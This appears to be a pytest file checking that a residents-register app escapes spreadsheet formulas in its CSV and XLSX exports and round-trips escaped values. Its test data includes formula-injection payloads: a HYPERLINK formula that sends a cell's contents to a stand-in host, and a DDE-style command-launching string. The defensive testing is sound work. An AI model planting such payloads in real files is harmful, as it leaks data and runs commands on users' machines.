"""Issue 14, item 4: no CSV or XLSX the station writes carries a live spreadsheet formula, and a neutralised
residents export imports back to the same values."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest

from station_client import reports_export, statistics_export
from station_client.residents_csv import export_residents, import_residents
from station_client.spreadsheet_safety import FORMULA_START, csv_cell, unescape_cell
from station_client.statistics_export import Table
from station_client.store import Store

NASTY = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', "@SUM(1+1)*cmd|' /C calc'!A0", "+84 912 345 678",
         "-2+3", "\t=1+1", "\r=1+1", "＝1+1"]


def _cells(path: Path) -> list[str]:
    return [c for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for c in row]


def _no_live_formula_csv(path: Path) -> None:
    for cell in _cells(path):
        assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-\d+(\.\d+)?", cell), cell  # numbers pass


def _no_live_formula_xlsx(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula element anywhere
    from openpyxl import load_workbook

    values = [c.value for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row]
    return [v for v in values if isinstance(v, str)]


@pytest.mark.parametrize("value", NASTY)
def test_the_helper_escapes_and_the_import_undoes_it(value):
    escaped = csv_cell(value)
    assert escaped == "'" + value
    assert unescape_cell(escaped) == (value, True)
    assert csv_cell("Nguyễn Văn A") == "Nguyễn Văn A" and csv_cell(-5) == -5


def test_residents_export_neutralises_and_round_trips(tmp_path):
    with Store.open(tmp_path / "a.db") as store:
        store.create("person", {"full_name": "Nguyễn Văn Đức", "birth_date": "1985-03-02", "sex": "M",
                                "personal_id": "022085000123", "note": NASTY[0],
                                "permanent_address": NASTY[1], "occupation": "-"}, officer="t")
        out = tmp_path / "out.csv"
        assert export_residents(store, out) == 1
    _no_live_formula_csv(out)
    assert "'" + NASTY[0] in _cells(out) and "'-" in _cells(out)
    with Store.open(tmp_path / "b.db") as other:
        report = import_residents(other, out, officer="t")
        assert report.created == 1, report.errors
        p = other.find_one("person", personal_id="022085000123")
        assert (p["note"], p["permanent_address"], p["occupation"]) == (NASTY[0], NASTY[1], "-")


def test_register_exports_neutralise_formulas(tmp_path, monkeypatch):
    def table(kind, rows):
        return ["STT", "Nội dung"], [[str(i), v] for i, v in enumerate(NASTY, 1)]

    monkeypatch.setattr(reports_export, "table", table)
    reports_export.write_csv(tmp_path / "r.csv", "crime_report", [], date(2026, 1, 1), date(2026, 1, 31))
    _no_live_formula_csv(tmp_path / "r.csv")
    reports_export.write_xlsx(tmp_path / "r.xlsx", "crime_report", [], date(2026, 1, 1), date(2026, 1, 31))
    values = _no_live_formula_xlsx(tmp_path / "r.xlsx")
    assert all(v.replace("\r", "\n") in values for v in NASTY)  # shown as typed, as text (XML keeps no CR)


def test_statistics_exports_neutralise_formulas(tmp_path):
    tabs = [Table("=Kỳ 2026-10", ("Chỉ tiêu", "Số lượng"), (*((v, 3) for v in NASTY), ("Giảm", -4)))]
    statistics_export.write_csv(tmp_path / "s.csv", tabs)
    _no_live_formula_csv(tmp_path / "s.csv")
    assert "-4" in _cells(tmp_path / "s.csv")  # a number stays a number
    statistics_export.write_xlsx(tmp_path / "s.xlsx", tabs)
    values = _no_live_formula_xlsx(tmp_path / "s.xlsx")
    assert all(v.replace("\r", "\n") in values for v in NASTY)
